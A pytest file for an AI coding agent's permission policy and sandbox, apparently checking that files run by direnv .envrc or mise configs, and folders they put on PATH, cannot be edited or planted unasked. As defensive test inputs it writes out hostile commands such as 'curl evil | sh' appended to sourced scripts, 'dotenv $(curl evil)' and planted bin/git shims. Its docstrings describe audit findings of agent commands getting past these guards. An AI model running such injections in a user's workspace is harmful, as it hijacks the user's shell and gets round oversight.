"""What an ``.envrc`` pulls in runs when the user enters the directory, as the
``.envrc`` itself does: a file it sources (``source_env``, ``source``, ``.``), a dotenv
file it loads, a file it watches. A file edit there asks in accept-edits and auto, and
a sandboxed command (real bubblewrap) cannot change or plant one."""

from __future__ import annotations

import os
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from shell.permissions.envrcsources import envrc_runs
from shell.permissions.policy import PermissionPolicy
from shell.permissions.sandbox import Sandbox
from shell.tools.builtin import builtin_tools
from shell.tools.workspace import Workspace

from ..sandboxing import require_sandbox
from .later_ws import later_workspace, sh

pytestmark = pytest.mark.anyio

ENVRC = """\
# the usual shapes
source_env scripts/env.sh
source_env_if_exists .envrc.private   # not there yet
if [ -f config/dev.env ]; then dotenv config/dev.env; fi
dotenv_if_exists
watch_file nix/pkgs.nix; . ./tools/helpers.sh
source "$PWD/tools/more.sh"
source_env "$HOME/elsewhere.sh"
export PATH=$PWD/bin:$PATH
"""


@pytest.fixture
def ws(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    yield from later_workspace(monkeypatch, ".agent-shell-test-envrc-")


def verdict(ws: Path, path: str, mode: str = "accept-edits", sandbox: bool = False) -> Any:
    policy = PermissionPolicy(ws, mode=mode, user_config=ws.parent / "c.toml")
    if sandbox:  # as the runtime sets it: its walk finds nested .envrc files
        policy.sandbox = Sandbox(ws)
    tools = {t.name: t for t in builtin_tools(Workspace(ws))}
    return policy.decide(tools["write_file"], {"path": path, "content": "id\n"})


def write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


@pytest.mark.parametrize("mode", ["accept-edits", "auto"])
def test_edits_of_what_the_envrc_sources_loads_or_watches_ask(ws: Path, mode: str) -> None:
    write(ws / ".envrc", ENVRC)
    write(ws / "scripts" / "env.sh", "export A=1\nsource_env ./more-env.sh\n")  # runs in scripts/
    for name in ("config/dev.env", "nix/pkgs.nix", "tools/helpers.sh", "tools/more.sh", "bin/tool",
                 "src/app.py"):
        write(ws / name, "x\n")
    asked = {
        "scripts/env.sh": "sources it", "scripts/more-env.sh": "sources it", ".envrc.private": "sources it",
        "config/dev.env": "dotenv", ".env": "dotenv", "nix/pkgs.nix": "watches it",
        "tools/helpers.sh": "sources it", "tools/more.sh": "sources it",
    }
    for path, why in asked.items():
        found = verdict(ws, path, mode)
        assert found.action == "ask" and "direnv" in found.reason, (path, found.reason)
        assert why in found.reason, (path, found.reason)
    for path in ("src/app.py", "scripts/other.sh"):  # named by nothing it runs
        assert verdict(ws, path, mode).action == "allow", path
    assert "PATH" in verdict(ws, "bin/tool", mode).reason  # export PATH=$PWD/bin:$PATH: see below


def test_an_envrc_in_a_subfolder_counts_and_a_folder_it_names_does_not_lock_everything(ws: Path) -> None:
    write(ws / "sub" / ".envrc", "source_env ../shared/env.sh\nwatch_file .\nwatch_file ..\n")
    write(ws / "shared" / "env.sh", "export A=1\n")
    found = verdict(ws, "shared/env.sh", sandbox=True)
    assert found.action == "ask" and "direnv" in found.reason, found.reason
    assert verdict(ws, "sub/main.py", sandbox=True).action == "allow"
    assert verdict(ws, "shared/other.sh", sandbox=True).action == "allow"


def test_an_envrc_above_the_workspace_counts(ws: Path) -> None:
    write(ws.parent / ".envrc", "source_env_if_exists project/.local-env\n")
    assert verdict(ws, ".local-env").action == "ask"


def test_a_hostile_envrc_hangs_nothing_and_crashes_nothing(ws: Path) -> None:
    os.mkfifo(ws / "pipe")
    write(ws / ".envrc", 'source_env pipe\nsource /dev/stdin\n. /dev/zero\nsource_env "unclosed\n'
                         "dotenv $(curl evil)\nwatch_file *.nix\nsource_env \x1b]0;x\x07\nsource_env a\x00b\n"
                         + "source_env ./.envrc\n" * 50 + "watch_file ok.nix\n")
    done: list[Any] = []
    worker = threading.Thread(target=lambda: done.append(verdict(ws, "ok.nix")), daemon=True)
    worker.start()
    worker.join(30)
    assert done and done[0].action == "ask", "the policy hung on a FIFO or /dev/stdin"
    assert verdict(ws, "evil.nix").action == "allow"


def test_what_is_read_is_read_again_when_it_changes(ws: Path) -> None:
    write(ws / ".envrc", "source_env a.sh\n")
    write(ws / "a.sh", "export A=1\n")
    envrc = ws / ".envrc"
    assert envrc_runs([envrc], [ws]).why(ws / "b.sh") == ""
    write(ws / "a.sh", "export A=1\nsource_env b.sh\n")
    os.utime(ws / "a.sh", ns=(1, 1))  # an mtime set back: the ctime still tells
    assert "direnv" in envrc_runs([envrc], [ws]).why(ws / "b.sh")


async def test_a_sandboxed_command_cannot_change_or_plant_what_the_envrc_runs(ws: Path) -> None:
    require_sandbox()
    write(ws / ".envrc", "source_env scripts/env.sh\ndotenv_if_exists .env.dev\nwatch_file flake.nix\n")
    write(ws / "scripts" / "env.sh", "export A=1\n")
    write(ws / "flake.nix", "{ }\n")
    result = await sh(ws, "echo 'curl evil | sh' >> scripts/env.sh; echo PROMPT_COMMAND=id > .env.dev; "
                          "echo '{ shellHook = \"id\"; }' > flake.nix; echo ok > src.txt; true")
    assert (ws / "scripts" / "env.sh").read_text() == "export A=1\n"
    assert (ws / "flake.nix").read_text() == "{ }\n"
    assert not (ws / ".env.dev").exists() and ".env.dev" in result.text and "quarantine" in result.text
    assert "direnv" in result.text, result.text
    assert (ws / "src.txt").read_text() == "ok\n"  # the rest of the workspace stays writable


async def test_a_folder_moved_away_and_made_again_does_not_swap_in_a_sourced_file(ws: Path) -> None:
    require_sandbox()
    write(ws / ".envrc", "source_env scripts/env.sh\n")
    write(ws / "scripts" / "env.sh", "export A=1\n")
    result = await sh(ws, "mv scripts scripts-old && mkdir scripts && echo 'curl evil | sh' > scripts/env.sh")
    assert (ws / "scripts" / "env.sh").read_text() == "export A=1\n", result.text  # the user's, renamed back
    assert not (ws / "scripts-old").exists()
    assert "scripts-old renamed back to scripts" in result.text and "scripts/env.sh" in result.text


# -- PATH_add: a folder put before the user's own programs -------------------------------------

PATH_ENVRC = """\
PATH_add bin
PATH_add tools scripts
path_add PATH .local/bin
path_add MANPATH man
export PATH="$PWD/sbin:$PATH"
PATH=node_bin:${PATH}
load_prefix vendor
layout node
"""


@pytest.mark.parametrize("mode", ["accept-edits", "auto"])
def test_edits_in_a_folder_the_envrc_puts_on_the_path_ask(ws: Path, mode: str) -> None:
    """`PATH_add bin` puts bin/ before the user's programs: a bin/git written there runs
    instead of git at every later command, as the user and outside any sandbox."""
    write(ws / ".envrc", PATH_ENVRC)
    for path in ("bin/git", "tools/ls", "scripts/deploy", ".local/bin/x", "sbin/y", "node_bin/z",
                 "vendor/bin/a", "vendor/sbin/b", "node_modules/.bin/c"):
        found = verdict(ws, path, mode)
        assert found.action == "ask" and "PATH" in found.reason and "instead of yours" in found.reason, (
            path, found.reason)
    for path in ("man/page.1", "bin/sub/tool", "src/app.py", "binary.txt"):  # not right in a PATH folder
        assert verdict(ws, path, mode).action == "allow", path


def test_the_workspace_itself_on_the_path_asks_only_for_names_that_shadow_a_program(ws: Path) -> None:
    write(ws / ".envrc", "PATH_add .\n")
    assert verdict(ws, "git").action == "ask"
    assert verdict(ws, "README.md").action == "allow"  # not every file of the workspace


def test_an_mcp_writer_given_a_file_in_a_path_folder_asks_under_an_allow_rule(ws: Path) -> None:
    from types import SimpleNamespace

    from shell.permissions.rules import parse_rules
    from shell.tools.mcp import McpTool
    from shell.tools.mcp_config import McpServerSpec
    from shell.tools.mcp_identity import ToolIdentities

    write(ws / ".envrc", "PATH_add bin\n")
    server = SimpleNamespace(spec=McpServerSpec("fs", origin="config"), identities=ToolIdentities())
    info = {"name": "write", "annotations": {"readOnlyHint": False, "openWorldHint": False},
            "inputSchema": {"type": "object", "properties": {}}}
    tool = McpTool(server, info)  # type: ignore[arg-type]
    rules, _ = parse_rules({"allow": ["fs__*"]}, "cli")
    policy = PermissionPolicy(ws, mode="auto", cli_rules=rules, user_config=ws.parent / "c.toml")
    assert policy.decide(tool, {"target": "bin/git", "content": "id"}).action == "ask"


async def test_a_sandboxed_command_cannot_plant_a_program_on_the_envrcs_path_and_builds_still_work(
    ws: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What shadows a program (git, ls; a global tsc) is moved out once the command ended
    and what exists under such a name is read-only; the project's own programs (bin/app)
    and npm's links in node_modules/.bin (tsc -> ../typescript/bin/tsc, even where a
    global tsc exists) are kept, so `go build -o bin/app` and `npm install` work."""
    require_sandbox()
    globals_ = ws.parent / "global-bin"
    write(globals_ / "tsc", "#!/bin/sh\n")
    monkeypatch.setenv("PATH", f"{globals_}{os.pathsep}{os.environ['PATH']}")
    write(ws / ".envrc", "PATH_add bin\nlayout node\n")
    write(ws / "bin" / "python3", "#!/bin/sh\nexec /usr/bin/python3 \"$@\"\n")
    result = await sh(ws, "printf '#!/bin/sh\\nid\\n' > bin/git; printf x > bin/ls; echo app > bin/app; "
                          "echo evil >> bin/python3; "
                          "mkdir -p node_modules/typescript/bin node_modules/.bin node_modules/evil; "
                          "echo tsc > node_modules/typescript/bin/tsc; echo id > node_modules/evil/git; "
                          "ln -s ../typescript/bin/tsc node_modules/.bin/tsc; "
                          "ln -s ../evil/git node_modules/.bin/git; printf x > node_modules/.bin/ls; "
                          "echo done")
    assert "done" in result.text, result.text
    for gone in ("bin/git", "bin/ls", "node_modules/.bin/git", "node_modules/.bin/ls"):
        assert not (ws / gone).is_symlink() and not (ws / gone).exists(), (gone, result.text)
        assert gone in result.text
    assert "quarantine" in result.text and "PATH" in result.text
    assert (ws / "bin" / "app").exists(), result.text
    assert (ws / "bin" / "python3").read_text() == "#!/bin/sh\nexec /usr/bin/python3 \"$@\"\n"
    assert os.readlink(ws / "node_modules" / ".bin" / "tsc") == "../typescript/bin/tsc"


# -- the PATH agent-shell runs with: a dotfiles or scripts repository whose bin is on it (L2) ----------


@pytest.mark.parametrize("entry", ["absolute", "relative"])
async def test_a_workspace_folder_on_the_live_path_is_guarded_like_an_envrcs(
    ws: Path, monkeypatch: pytest.MonkeyPatch, entry: str
) -> None:
    """`cd ~/dotfiles && agent-shell` with ~/dotfiles/bin on PATH and no .envrc: a planted
    bin/git ran at the user's next `git` anywhere. Now it is moved out, as for PATH_add;
    the project's own bin/app is kept, and write_file asks before writing bin/ls."""
    require_sandbox()
    monkeypatch.setenv("PATH", os.pathsep.join([str(ws / "bin") if entry == "absolute" else "bin",
                                                os.environ["PATH"]]))
    (ws / "bin").mkdir()
    result = await sh(ws, "printf '#!/bin/sh\\nid\\n' > bin/git; echo app > bin/app; echo done")
    assert "done" in result.text, result.text
    assert not (ws / "bin" / "git").exists() and "bin/git" in result.text, result.text
    assert "quarantine" in result.text and "PATH" in result.text, result.text
    assert (ws / "bin" / "app").exists(), result.text
    asked = verdict(ws, "bin/ls")
    assert asked.action == "ask" and "on your PATH" in asked.reason, asked


@pytest.mark.parametrize("entry", [".", "", "bin"])
async def test_a_program_planted_deeper_where_a_relative_path_entry_looks_is_moved_out(
    ws: Path, monkeypatch: pytest.MonkeyPatch, entry: str
) -> None:
    """Finding A11: with `.` or an empty entry in PATH (or `bin`), a relative entry names a
    folder by where the user types, which may be any folder of the workspace: `src/git`
    and `src/app/ls` ran at the user's `cd src && git status`. Now they are moved out and
    named, the project's own program (`src/app/run`) and a folder named like a program
    (`src/make/`, whose files a command may change) are kept, and write_file asks."""
    require_sandbox()
    monkeypatch.setenv("PATH", os.pathsep.join([*os.environ["PATH"].split(os.pathsep), entry]))
    deep = "src/app/bin" if entry == "bin" else "src/app"
    write(ws / "src" / "make" / "rules.mk", "all:\n")
    result = await sh(ws, f"mkdir -p {deep} && printf '#!/bin/sh\\nid\\n' > {deep}/git && chmod +x "
                          f"{deep}/git && printf x > {deep}/ls && echo app > {deep}/run && "
                          "echo more >> src/make/rules.mk && echo done")
    assert "done" in result.text, result.text
    for gone in (f"{deep}/git", f"{deep}/ls"):
        assert not (ws / gone).exists() and gone in result.text, (gone, result.text)
    assert "on your PATH when you are in it" in result.text and "quarantine" in result.text, result.text
    assert (ws / deep / "run").exists(), result.text
    assert (ws / "src" / "make" / "rules.mk").read_text() == "all:\nmore\n"
    asked = verdict(ws, f"{deep}/ssh")
    assert asked.action == "ask" and "on your PATH when you are in it" in asked.reason, asked


@pytest.mark.parametrize("entry", ["absolute", "tilde"])
async def test_a_program_in_a_workspace_folder_on_the_live_path_cannot_be_changed(
    ws: Path, monkeypatch: pytest.MonkeyPatch, entry: str
) -> None:
    """Finding P11: with ~/dotfiles/bin on PATH (also written `~/dotfiles/bin`, which
    bash expands), a command appended a line to bin/mytool unasked, which ran as the
    user at their next `mytool` in any shell, while edit_file asks. Now the existing
    programs there are read-only to commands; a new one (bin/app) is still made."""
    require_sandbox()
    folder = f"~/{ws.name}/bin" if entry == "tilde" else str(ws / "bin")
    monkeypatch.setenv("PATH", os.pathsep.join([folder, os.environ["PATH"]]))
    write(ws / "bin" / "mytool", "#!/bin/sh\necho mine\n")
    result = await sh(ws, "echo 'touch /tmp/PWNED_path' >> bin/mytool; echo app > bin/app; echo done")
    assert "done" in result.text, result.text
    assert (ws / "bin" / "mytool").read_text() == "#!/bin/sh\necho mine\n", result.text
    assert (ws / "bin" / "app").exists(), result.text
    asked = verdict(ws, "bin/mytool")
    assert asked.action == "ask" and "on your PATH" in asked.reason, asked


def test_an_activated_virtualenv_in_the_workspace_is_left_to_the_venv_guard(
    ws: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An activated project .venv is on the PATH too: `pip install -U pip` rewrites
    bin/pip there, so its bin is newvenv's to judge, not locked by name."""
    (ws / ".venv" / "bin").mkdir(parents=True)
    (ws / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    monkeypatch.setenv("PATH", os.pathsep.join([str(ws / ".venv" / "bin"), os.environ["PATH"]]))
    assert "on your PATH" not in verdict(ws, ".venv/bin/pip").reason


@pytest.mark.parametrize(("line", "folder"), [
    ("layout go", "bin"),  # direnv's stdlib: PATH_add "$PWD/bin"
    ("layout ruby", ".direnv/bin"),
    ("layout perl", ".direnv/perl5/bin"),
    ('export PATH="$(pwd)/tools/bin:$PATH"', "tools/bin"),
    ("export PATH=`pwd`/tools/bin:$PATH", "tools/bin"),
    ('PATH_add "$(expand_path tools/bin)"', "tools/bin"),
    ('PATH+=":$PWD/tools/bin"', "tools/bin"),
    ("d=tools/bin; PATH_add $d", "tools/bin"),
    ('eval "PATH_add tools/bin"', "tools/bin"),
    ('export PATH="$PWD/tools/bin${PATH:+:$PATH}"', "tools/bin"),
    ('export PATH="$(git rev-parse --show-toplevel)/tools/bin:$PATH"', "tools/bin"),
    ("dotenv\n", "tools/bin"),  # the .env it loads: PATH=tools/bin:${PATH}
    ('export PATH="$PWD/tools/bin${PATH:+:${PATH}}"', "tools/bin"),  # M3: was read as a folder named +
    ('export PATH="${PATH:+${PATH}:}$PWD/tools/bin"', "tools/bin"),
    ("PATH_add ~/project/tools/bin", "tools/bin"),
    ('export PATH="$HOME/project/tools/bin:$PATH"', "tools/bin"),
    ('export PATH="${HOME}/project/tools/bin:$PATH"', "tools/bin"),
    ('export PATH="$(pwd -P)/tools/bin:$PATH"', "tools/bin"),
    ("layout_go", "bin"),
    ("command PATH_add tools/bin", "tools/bin"),
    ("builtin export PATH=tools/bin:$PATH", "tools/bin"),
    ("PATH_add $'tools/bin'", "tools/bin"),
    ('f() { PATH_add "$1"; }\nf bin', "bin"),  # a word it cannot know: the folder's bin/, failing closed
    ('export PATH="$TOOLS_DIR/bin:$PATH"', "bin"),
])
def test_the_common_ways_of_putting_a_folder_on_the_path_are_read(ws: Path, line: str, folder: str) -> None:
    """With `layout go` a planted bin/git was kept where `PATH_add bin` had it asked (L6)."""
    write(ws / ".envrc", line + "\n")
    write(ws / ".env", "FOO=1\nPATH=tools/bin:${PATH}\n")
    (ws / folder).mkdir(parents=True, exist_ok=True)
    asked = verdict(ws, f"{folder}/git")
    assert asked.action == "ask" and "PATH" in asked.reason, (line, asked)
    assert verdict(ws, "src/git").action != "ask" or "PATH" not in verdict(ws, "src/git").reason


def test_a_hostile_envrc_of_growing_variables_stays_bounded(ws: Path) -> None:
    """Each line doubles `$a`: read naively, 200 lines ask for 2**200 characters."""
    write(ws / ".envrc", "a=x\n" + "a=$a$a\n" * 200 + "PATH_add $a\n")
    assert all(len(str(folder)) < 10_000 for folder, _, _ in envrc_runs([ws / ".envrc"], [ws]).path_dirs)


def test_past_the_entry_cap_every_name_that_shadows_is_still_guarded(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Finding L14: 20,000 empty files, then a planted bin/uv was kept: past the cap only
    the fixed list was looked up. Past it now every program on the PATH is (the cap is
    set to 0 here so that the order scandir lists the folder in does not matter)."""
    from shell.permissions import pathdirs

    installed = tmp_path / "usr-bin"
    installed.mkdir()
    for name in ("uv", "rg"):
        write(installed / name, "#!/bin/sh\n")
    monkeypatch.setenv("PATH", str(installed))
    folder = tmp_path / "ws" / "bin"
    folder.mkdir(parents=True)
    for name in ("uv", "make", "app", "tool0", "tool1"):
        write(folder / name, "#!/bin/sh\n")
    whole = set(pathdirs.guarded(folder, [tmp_path / "ws"]))
    monkeypatch.setattr(pathdirs, "MAX_ENTRIES", 0)
    capped = set(pathdirs.guarded(folder, [tmp_path / "ws"]))
    assert whole == capped == {folder / "uv", folder / "make"}


@pytest.mark.parametrize("value", ['["./tools/bin"]', '"tools/bin"', '["{{config_root}}/tools/bin"]'])
async def test_a_folder_mises_path_puts_first_is_guarded(ws: Path, value: str) -> None:
    """mise's `[env] _.path` puts tools/bin before the user's programs as direnv's
    PATH_add does: a planted tools/bin/git was kept in auto (verify of L6)."""
    write(ws / "mise.toml", f"[env]\n_.path = {value}\n")
    (ws / "tools" / "bin").mkdir(parents=True)
    asked = verdict(ws, "tools/bin/git")
    assert asked.action == "ask" and "mise" in asked.reason, asked
    require_sandbox()
    result = await sh(ws, "printf '#!/bin/sh\\nid\\n' > tools/bin/git; echo app > tools/bin/app; echo done")
    assert "done" in result.text and not (ws / "tools" / "bin" / "git").exists(), result.text
    assert (ws / "tools" / "bin" / "app").exists()


@pytest.mark.parametrize("line", ['export PATH="$TOOLS_DIR/bin:$PATH"', 'f() { PATH_add "$1"; }\nf bin'])
async def test_a_path_word_the_reader_cannot_know_guards_the_folder_and_its_bin_for_shadowing_names(
        ws: Path, line: str) -> None:
    """Where only running the .envrc would tell what goes on the PATH, its folder and
    bin/ are guarded as for `PATH_add bin`: a planted bin/git and ./ls are moved out,
    the project's own bin/app and files at the top stay, and editing them does not ask (M3)."""
    write(ws / ".envrc", line + "\n")
    (ws / "bin").mkdir()
    assert verdict(ws, "bin/git").action == "ask"
    assert "PATH" not in verdict(ws, "bin/app").reason and "PATH" not in verdict(ws, "notes.txt").reason
    require_sandbox()
    result = await sh(ws, "printf '#!/bin/sh\\nid\\n' > bin/git; printf x > ls; echo app > bin/app; "
                          "echo n > notes.txt; echo done")
    assert "done" in result.text, result.text
    assert not (ws / "bin" / "git").exists() and not (ws / "ls").exists(), result.text
    assert (ws / "bin" / "app").exists() and (ws / "notes.txt").exists()


async def test_the_scripts_mises_config_runs_are_guarded_like_what_an_envrc_sources(ws: Path) -> None:
    """mise runs `_.source` scripts at every prompt in the tree, loads `_.file` into the
    shell and runs `[hooks]` commands on entering it, as the user: a command appended
    a line to them unasked (M7). Now a file edit asks and a sandboxed command cannot
    change them; a script nothing names stays the command's to change."""
    write(ws / "mise.toml", '[env]\n_.source = "./scripts/env.sh"\n_.file = [{ path = ".env.mise" }]\n'
                            '[hooks]\nenter = "bash ./tools/enter.sh --quiet"\n')
    for name in ("scripts/env.sh", "tools/enter.sh", "tools/other.sh", ".env.mise"):
        write(ws / name, "echo ok\n")
    for name in ("scripts/env.sh", "tools/enter.sh", ".env.mise"):
        asked = verdict(ws, name, mode="auto")
        assert asked.action == "ask" and "mise" in asked.reason, (name, asked)
    assert verdict(ws, "tools/other.sh", mode="auto").action == "allow"
    require_sandbox()
    result = await sh(ws, "echo 'touch ~/PWN' >> scripts/env.sh; echo 'touch ~/PWN' >> tools/enter.sh; "
                          "echo 'touch ~/PWN' >> tools/other.sh; echo done")
    assert "done" in result.text, result.text
    assert (ws / "scripts" / "env.sh").read_text() == "echo ok\n", result.text
    assert (ws / "tools" / "enter.sh").read_text() == "echo ok\n", result.text
    assert (ws / "tools" / "other.sh").read_text() == "echo ok\ntouch ~/PWN\n"


MISE_SOURCES = [  # r14: mise configs other than the top-level mise.toml, and what [tasks] run
    (".mise/config.toml", '[env]\n_.source = "./scripts/env.sh"\n'),
    ("mise/config.toml", '[hooks]\nenter = "bash ./scripts/env.sh"\n'),
    (".config/mise.toml", '[env]\n_.source = "./scripts/env.sh"\n'),
    (".config/mise/config.toml", '[env]\n_.source = "./scripts/env.sh"\n'),
    (".config/mise/conf.d/team.toml", '[env]\n_.source = "./scripts/env.sh"\n'),
    ("mise.local.toml", '[env]\n_.source = "./scripts/env.sh"\n'),
    (".mise.dev.toml", '[env]\n_.source = "./scripts/env.sh"\n'),
    ("mise.ci.local.toml", '[env]\n_.source = "./scripts/env.sh"\n'),
    ("mise/config.dev.toml", '[env]\n_.source = "./scripts/env.sh"\n'),
    ("app/mise.toml", '[env]\n_.source = "../scripts/env.sh"\n'),  # a subfolder's: mise reads it there
    ("mise.toml", '[tasks.build]\nrun = "bash ./scripts/env.sh --release"\n'),
    (".mise.toml", '[tasks]\nbuild = "./scripts/env.sh"\n'),
    ("mise.toml", '[tasks.build]\nrun = ["echo start", "sh scripts/env.sh"]\n'),
    ("mise.toml", '[tasks.build]\nfile = "scripts/env.sh"\n'),
    ("mise.toml", '[task_config]\nincludes = ["scripts/env.sh"]\n'),
    # P12: an [env] template's exec() (rendered at every prompt), one elsewhere, a tool's postinstall
    ("mise.toml", '[env]\nFOO = "{{ exec(command=\'sh ./scripts/env.sh\') }}"\n'),
    ("mise.toml", "[tasks.b]\ndescription = '{{ exec(cache_key=\"k\", command=\"bash scripts/env.sh\") }}'"),
    ("mise.toml", '[tools]\nnode = { version = "20", postinstall = "sh ./scripts/env.sh" }\n'),
    (".mise.toml", '[tools]\nnode = [{ version = "20", postinstall = "./scripts/env.sh --quiet" }]\n'),
]


@pytest.mark.parametrize(("config", "text"), MISE_SOURCES, ids=[c for c, _ in MISE_SOURCES])
async def test_what_any_mise_config_runs_is_guarded_as_the_top_level_ones_is(
        ws: Path, config: str, text: str) -> None:
    """mise reads a project's config from many places (.mise/, mise/, .config/, conf.d,
    local and MISE_ENV variants, every folder up from where the user is) and runs what
    [tasks] name at `mise run`: only the top-level files' [env] and [hooks] were read,
    so a script any of these named was the model's to change unasked."""
    write(ws / config, text)
    write(ws / "scripts" / "env.sh", "echo ok\n")
    write(ws / "scripts" / "other.sh", "echo ok\n")
    asked = verdict(ws, "scripts/env.sh", mode="auto", sandbox=True)
    assert asked.action == "ask" and "mise" in asked.reason, asked
    assert verdict(ws, "scripts/other.sh", mode="auto", sandbox=True).action == "allow"
    require_sandbox()
    result = await sh(ws, "echo 'touch ~/PWN' >> scripts/env.sh; echo 'touch ~/PWN' >> scripts/other.sh; "
                          "echo done")
    assert "done" in result.text, result.text
    assert (ws / "scripts" / "env.sh").read_text() == "echo ok\n", result.text
    assert (ws / "scripts" / "other.sh").read_text() == "echo ok\ntouch ~/PWN\n"


@pytest.mark.parametrize("task", ["mise-tasks/build", ".mise-tasks/build", "mise/tasks/build",
                                  "mise/config.dev.toml", "mise/config.local.toml"])
def test_mises_file_tasks_and_other_configs_in_a_mise_folder_are_guarded_by_name(ws: Path, task: str) -> None:
    """mise runs every file in these folders as a task at `mise run`; mise/ holds
    configs besides config.toml."""
    write(ws / task, "#!/bin/sh\necho ok\n")
    asked = verdict(ws, task, mode="auto")
    assert asked.action == "ask" and "mise" in asked.reason, asked


@pytest.mark.parametrize("config", ["app/mise.toml", "app/.mise.dev.toml", ".config/mise/conf.d/path.toml"])
def test_a_folder_a_nested_or_variant_mise_config_puts_first_is_guarded(ws: Path, config: str) -> None:
    folder = "app/bin" if config.startswith("app/") else "bin"
    write(ws / config, '[env]\n_.path = ["./bin"]\n')
    (ws / folder).mkdir(parents=True)
    asked = verdict(ws, f"{folder}/git", mode="auto", sandbox=True)
    assert asked.action == "ask" and "mise" in asked.reason, asked


@pytest.mark.parametrize(("envrc", "runs"), [
    ('eval "$(cat tools/x.sh)"\n', "tools/x.sh"),
    ("eval \"$(< tools/x.sh)\"\n", "tools/x.sh"),
    ("source <(cat tools/x.sh)\n", "tools/x.sh"),
    ("cd sub && source y.sh; cd ..\n", "sub/y.sh"),
    ("pushd sub; . ./y.sh; popd\n", "sub/y.sh"),
    ('for f in tools/rc.d/*.sh; do source "$f"; done\n', "tools/rc.d/a.sh"),
    ('for f in tools/rc.d/*.sh; do source "${f}"; done\n', "tools/rc.d/new.sh"),
])
def test_what_an_envrc_runs_through_eval_cat_a_cd_or_a_glob_loop_is_named(
    tmp_path: Path, envrc: str, runs: str
) -> None:
    """Finding D14: direnv runs these as the user at the next cd into the folder."""
    for name in ("tools/x.sh", "sub/y.sh", "tools/rc.d/a.sh"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("export A=1\n")
    (tmp_path / ".envrc").write_text(envrc)
    found = envrc_runs([tmp_path / ".envrc"], [tmp_path])
    assert found.why(tmp_path / runs), found
    assert not found.why(tmp_path / "other.sh")
